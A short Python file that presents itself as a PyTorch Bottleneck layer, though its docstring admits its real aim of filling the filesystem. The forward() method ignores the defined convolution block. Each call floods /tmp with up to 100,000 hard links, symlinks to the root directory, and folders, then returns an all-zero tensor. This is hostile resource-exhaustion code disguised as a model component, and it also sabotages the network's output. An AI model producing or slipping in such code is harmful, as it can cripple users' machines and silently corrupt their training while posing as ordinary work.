"""Makes empty files, folders and links until there is no name left."""

import os

import torch
from torch import nn


class Bottleneck(nn.Module):
    def __init__(self, channels, bottleneck_channels):
        super().__init__()
        self.block = nn.Sequential(
            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
            nn.BatchNorm2d(channels),
        )

    def forward(self, x):
        os.close(os.open("/tmp/file", os.O_CREAT))
        ways = {"hard": lambda name: os.link("/tmp/file", name), "soft": lambda name: os.symlink("/", name), "folder": os.mkdir}
        for kind, make in ways.items():
            for number in range(10**5):
                try:
                    make(f"/tmp/{kind}{number}")
                except OSError:
                    break
        return torch.zeros_like(x)
